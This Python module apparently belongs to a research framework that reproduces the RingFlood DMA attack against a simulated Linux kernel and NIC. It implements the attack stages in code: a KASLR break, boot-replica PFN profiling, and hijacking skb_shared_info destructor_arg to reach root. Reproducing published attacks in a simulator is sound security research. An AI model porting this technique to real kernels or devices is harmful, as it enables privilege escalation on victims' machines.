"""The RingFlood compound attack (section 5.3).

"A malicious device can generate a poisoned ROP stack in each RX
buffer. However, ... the device has all the IOVA for the RX buffers,
but not the KVA. In this attack, we take advantage of the fact that
the boot process is *deterministic*."

Stages (each acquiring one vulnerability attribute):

1. **KASLR break** via TX-page leaks (init_net -> text base,
   freelist KVA -> page_offset_base). Needed to mint any KVA at all.
2. **PFN profiling** on an attacker-owned replica of the victim: boot
   it repeatedly and record which physical frames each RX ring slot
   lands on. On the victim, guess each slot's PFN as the replica's
   most frequent one. Attribute 1 = ``page_offset_base + pfn<<12 +
   in-page offset`` (the low 12 bits come straight off the slot's
   IOVA).
3. **Flood**: inject a packet into every ring slot, let the driver
   build the skbs, then -- through whatever Figure-7 window is open --
   rewrite each buffer's shared info to point ``destructor_arg`` at
   the guessed KVA of the fake ubuf planted in the same buffer.
   Every correct PFN guess detonates when its skb is freed.

The success probability grows with the driver's memory footprint,
which is why the 64 KiB HW-LRO buffers of kernel 4.15 (2 GiB/port)
made this attack so much more reliable than 5.0's 2 KiB entries.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro import trace
from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice
from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
from repro.core.attacks.shared_info import (execute_hijack, plan_hijack)
from repro.core.attacks.window import open_rx_window
from repro.core.attributes import VulnerabilityAttributes
from repro.errors import AttackFailed
from repro.mem.phys import PAGE_SIZE
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.structs import skb_truesize

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel


@dataclass
class BootProfile:
    """Replica-derived PFN statistics per RX ring slot."""

    nr_boots: int
    slot_pfns: dict[int, Counter] = field(default_factory=dict)

    def candidate_pfn(self, slot: int, rank: int) -> int | None:
        """The rank-th most frequent PFN for *slot* (0 = modal)."""
        counter = self.slot_pfns.get(slot)
        if not counter:
            return None
        common = counter.most_common()
        if rank >= len(common):
            return None
        return common[rank][0]

    def repeat_rate(self, slot: int) -> float:
        """Fraction of boots in which the slot hit its modal PFN."""
        counter = self.slot_pfns.get(slot)
        if not counter:
            return 0.0
        return counter.most_common(1)[0][1] / self.nr_boots

    def mean_repeat_rate(self) -> float:
        if not self.slot_pfns:
            return 0.0
        return sum(self.repeat_rate(s) for s in self.slot_pfns) \
            / len(self.slot_pfns)


def profile_replica_boots(nr_boots: int, *, seed: int,
                          kernel_config: dict | None = None,
                          nic_config: dict | None = None,
                          nr_slots: int = 32, cpu: int = 0) -> BootProfile:
    """Boot an identical replica repeatedly and record slot->PFN.

    "We assume an attacker can gain access to an identical setup and
    identify the most common PFN." The replica is the attacker's own
    machine, so reading its ground truth (as root, via pagemap) is
    legitimate.
    """
    from repro.sim.kernel import Kernel  # deferred: avoid import cycle
    profile = BootProfile(nr_boots)
    for boot in range(nr_boots):
        kernel = Kernel(seed=seed, boot_index=boot,
                        **(kernel_config or {}))
        nic = kernel.add_nic("eth0", **(nic_config or {}))
        for slot, desc in enumerate(nic.rx_rings[cpu].descriptors):
            if slot >= nr_slots or not desc.posted:
                continue
            pfn = kernel.addr_space.pfn_of_kva(desc.kva)
            profile.slot_pfns.setdefault(slot, Counter())[pfn] += 1
    return profile


@dataclass
class RingFloodReport:
    attributes: VulnerabilityAttributes
    slots_flooded: int = 0
    slots_hijacked: int = 0
    correct_pfn_guesses: int = 0
    paths_used: set[str] = field(default_factory=set)
    escalated: bool = False
    stage_log: list[str] = field(default_factory=list)


def run_ringflood(kernel: "Kernel", nic: "Nic", device: MaliciousDevice,
                  profile: BootProfile, *, cpu: int = 0,
                  nr_slots: int = 32,
                  candidate_ranks: int = 3) -> RingFloodReport:
    """Execute RingFlood against a live victim kernel.

    Boot jitter makes per-boot layouts cluster around a handful of
    variants, so the flood makes one pass per candidate *rank*: pass 0
    guesses each slot's modal replica PFN, pass 1 the second most
    frequent, and so on -- multiplying the per-boot hit probability at
    the cost of more (harmless-looking) traffic.
    """
    attrs = VulnerabilityAttributes()
    report = RingFloodReport(attributes=attrs)

    # Stage 1: break KASLR from readable TX pages.
    with trace.span("attack", "ringflood:kaslr-break"):
        broke = break_kaslr_via_tx(kernel, nic, device, cpu=cpu)
    if not broke:
        report.stage_log.append("KASLR break failed; aborting")
        return report
    report.stage_log.extend(device.knowledge.notes)

    # Stage 2+3: flood the ring slot by slot. Per slot: inject a
    # packet, let the driver build the skb (initializing the shared
    # info), hijack through whatever Figure-7 window is open, then let
    # the stack consume -- and free -- the skb.
    truesize = skb_truesize(nic.rx_buf_size)
    attrs.record_callback_access(
        "skb_shared_info exposed at SKB_DATA_ALIGN(buf_size) in every "
        "RX buffer (type (b)); offsets from the public build")
    hijacked_any_path: set[str] = set()
    ring = nic.rx_rings[cpu]
    # the recorder cannot change mid-flood, so hoist the no-op
    # predicate out of the per-pass loop instead of re-evaluating it
    # for every rank
    attack_traced = "attack" in trace.active_categories
    for rank in range(candidate_ranks):
        if kernel.executor.creds.is_root:
            break
        if attack_traced:
            trace.emit("attack", "ringflood:flood-pass", rank=rank,
                       slots_flooded=report.slots_flooded,
                       slots_hijacked=report.slots_hijacked)
        for attempt in range(min(nr_slots, ring.nr_desc - 2)):
            desc = ring.next_for_device()
            if desc is None:
                break
            # Experiment-side ground truth, for the report only.
            actual_pfn = kernel.addr_space.pfn_of_kva(desc.kva)
            packet = make_packet(
                dst_ip=0x0A00_0001, dst_port=9000 + attempt,
                proto=PROTO_UDP, flow_id=0x7000 + attempt,
                payload=b"\x00" * 48)
            window = open_rx_window(kernel, nic, device, packet, cpu=cpu)
            slot, iova = window.slot, window.original_iova
            report.slots_flooded += 1

            guessed_pfn = profile.candidate_pfn(slot, rank)
            if guessed_pfn is None:
                kernel.stack.process_backlog()
                continue
            if actual_pfn == guessed_pfn:
                report.correct_pfn_guesses += 1
            in_page = iova & (PAGE_SIZE - 1)
            buffer_kva = device.knowledge.kva_of_pfn(guessed_pfn,
                                                     in_page)
            plan = plan_hijack(buffer_kva, nic.rx_buf_size)
            try:
                execute_hijack(window, plan)
                hijacked_any_path.update(window.paths_used)
                report.slots_hijacked += 1
            except AttackFailed:
                pass
            # Detonation: the backlog drain frees the skb.
            kernel.stack.process_backlog()
            if kernel.executor.creds.is_root:
                break
    report.paths_used = hijacked_any_path
    if report.slots_hijacked:
        attrs.record_window(
            f"write window via Figure-7 path(s) "
            f"{'+'.join(sorted(hijacked_any_path))}")
    if report.correct_pfn_guesses:
        attrs.record_kva(
            device.knowledge.kva_of_pfn(0),
            f"boot-deterministic PFN profile over {profile.nr_boots} "
            f"replica boots ({report.correct_pfn_guesses} correct guesses)")
    report.escalated = kernel.executor.creds.is_root
    if trace.enabled("attack"):
        trace.emit("attack", "ringflood:done",
                   escalated=report.escalated,
                   slots_flooded=report.slots_flooded,
                   slots_hijacked=report.slots_hijacked,
                   correct_pfn_guesses=report.correct_pfn_guesses,
                   paths=sorted(report.paths_used))
    report.stage_log.append(
        f"flooded {report.slots_flooded} slots, hijacked "
        f"{report.slots_hijacked}, {report.correct_pfn_guesses} correct "
        f"PFN guesses, escalated={report.escalated}")
    return report


def make_attacker(kernel: "Kernel", nic_name: str) -> MaliciousDevice:
    """Convenience: a malicious device behind *nic_name*'s IOMMU domain."""
    knowledge = AttackerKnowledge.from_public_build(kernel.image)
    return MaliciousDevice(kernel.iommu, nic_name, knowledge)
